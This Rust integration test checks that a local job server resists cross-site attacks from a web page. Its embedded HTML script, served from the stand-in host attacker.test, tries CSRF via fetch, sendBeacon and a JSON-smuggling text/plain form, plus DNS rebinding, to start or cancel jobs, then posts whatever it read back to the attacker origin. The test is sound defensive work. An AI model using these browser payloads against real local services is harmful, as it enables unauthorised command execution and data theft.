//! A real browser on a page of another site cannot use a server on its own machine.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::process::Stdio;

use serde_json::{Value, json};
use tunesmith_testing::Workspace;
use tunesmith_testing::server::Server;

/// The attacks of the page. It runs each against the server's address and, as a page whose name was made to mean that
/// address, against its own origin. At the end it posts the text of all answers that it could read.
const PAGE: &str = r#"<!doctype html><title>page</title><body><script>
const server = "http://SERVER", jobs = "/v1/projects/p/jobs";
const job = id => JSON.stringify({jobId: id, trainingInput: {masterConfig: {containerCommand: ["true"]}}});
const seen = [];
async function attempt(name, request) {
  try { const answer = await request(); seen.push(name + ": " + answer.type + " " + await answer.text()); }
  catch (error) { seen.push(name + ": " + error); }
}
const bytes = text => new TextEncoder().encode(text);
async function all() {
  for (const [at, target] of [["direct", server], ["rebound", ""]]) {
    for (const mode of ["cors", "no-cors"]) {
      const name = at + "_" + mode.replace("-", "_");
      await attempt("bytes", () => fetch(target + jobs, {method: "POST", mode, body: bytes(job(name + "_bytes"))}));
      await attempt("text", () => fetch(target + jobs, {method: "POST", mode, body: job(name + "_text")}));
      await attempt("cancel", () => fetch(target + jobs + "/running:cancel", {method: "POST", mode}));
      await attempt("list", () => fetch(target + jobs, {mode}));
      await attempt("read", () => fetch(target + jobs + "/running", {mode}));
    }
    await attempt("json", () => fetch(target + jobs, {
      method: "POST", headers: {"content-type": "application/json"}, body: job(at + "_json")}));
    navigator.sendBeacon(target + jobs, bytes(job(at + "_beacon")));
    navigator.sendBeacon(target + jobs + "/running:cancel");
    const frame = document.createElement("iframe");
    frame.name = at;
    document.body.append(frame);
    const form = document.createElement("form");
    Object.assign(form, {action: target + jobs, method: "post", enctype: "text/plain", target: at});
    const field = document.createElement("input");
    const [before, after] = job(at + "_form").split('"jobId":');
    Object.assign(field, {name: before + '"labels":{"a":"', value: '"},"jobId":' + after});
    form.append(field);
    document.body.append(form);
    const loaded = new Promise(resolve => frame.addEventListener("load", resolve));
    form.submit();
    await loaded;
  }
  await fetch("/done", {method: "POST", body: seen.join("\n")});
}
all();
</script>"#;

/// A request up to the end of its body.
fn read_request(stream: &TcpStream) -> Option<(String, Vec<u8>)> {
    let mut reader = BufReader::new(stream);
    let mut head = String::new();
    while !head.ends_with("\r\n\r\n") {
        if reader.read_line(&mut head).ok()? == 0 {
            return None;
        }
    }
    let length = head.to_ascii_lowercase().lines().find_map(|line| line.strip_prefix("content-length: ")?.parse().ok());
    let mut body = vec![0; length.unwrap_or(0)];
    reader.read_exact(&mut body).ok()?;
    Some((head, body))
}

/// Serves the page, forwards requests for the API to the server as they are, and returns what the page has read.
fn serve_page(listener: &TcpListener, server: SocketAddr) -> String {
    let page = PAGE.replace("SERVER", &server.to_string());
    for stream in listener.incoming() {
        let mut stream = stream.unwrap();
        let Some((head, body)) = read_request(&stream) else { continue };
        let path = head.split(' ').nth(1).unwrap_or_default();
        if path == "/done" {
            return String::from_utf8(body).unwrap();
        }
        if path.starts_with("/v1/") {
            let mut forward = TcpStream::connect(server).unwrap();
            // One request for each connection, so that the answer ends with the stream.
            let head = head.replace("Connection: keep-alive", "Connection: close");
            forward.write_all(&[head.as_bytes(), &body].concat()).unwrap();
            let mut answer = Vec::new();
            forward.read_to_end(&mut answer).unwrap();
            // The browser may have left.
            let _ = stream.write_all(&answer);
        } else {
            let length = page.len();
            let head = format!("HTTP/1.1 200 OK\r\ncontent-type: text/html\r\ncontent-length: {length}\r\n");
            let _ = write!(stream, "{head}connection: close\r\n\r\n{page}");
        }
    }
    unreachable!("a listener has no last connection")
}

#[test]
fn page_of_another_site_cannot_start_cancel_or_read_anything() {
    let workspace = Workspace::new("");
    let server = Server::start(&workspace, &[]);
    let jobs = "/v1/projects/p/jobs";
    let command = json!(["tail", "-f", "/dev/null"]);
    let job = json!({"jobId": "running", "trainingInput": {"masterConfig": {"containerCommand": command}}});
    assert_eq!(server.post(jobs, &job).0, 200);

    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let mut browser = tunesmith_testing::program("chromium");
    browser.args(["--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run"]);
    browser.args(["--disable-background-networking", "--disable-component-update", "--no-proxy-server"]);
    browser.arg("--host-resolver-rules=MAP attacker.test 127.0.0.1");
    browser.arg(format!("--user-data-dir={}", workspace.path().join("browser").display()));
    browser.arg("--remote-debugging-port=0").arg(format!("http://attacker.test:{port}/"));
    let mut browser = browser.stdout(Stdio::null()).stderr(Stdio::null()).spawn().unwrap();
    let seen = serve_page(&listener, server.address);
    browser.kill().unwrap();
    browser.wait().unwrap();

    let answers: Vec<&str> = seen.lines().collect();
    assert_eq!(
        answers.iter().filter(|line| line.contains(": basic {")).count(),
        11,
        "the page reads its own origin: {seen}"
    );
    assert!(!seen.contains("containerCommand") && !seen.contains("\"state\""), "{seen}");
    let (_, list) = server.get(jobs);
    let list: Vec<&str> = list["jobs"].as_array().unwrap().iter().map(|job| job["jobId"].as_str().unwrap()).collect();
    assert_eq!(list, ["running"]);
    let (_, job) = server.get(&format!("{jobs}/running"));
    assert!(!matches!(&job["state"], Value::String(state) if state.starts_with("CANCEL")), "{job}");
    let audit = workspace.read("data/audit/admin_activity.jsonl");
    assert_eq!(audit.lines().count(), 1, "requests of pages are not recorded: {audit}");
    assert_eq!(server.send("POST", &format!("{jobs}/running:cancel"), "", "").0, 200);
}
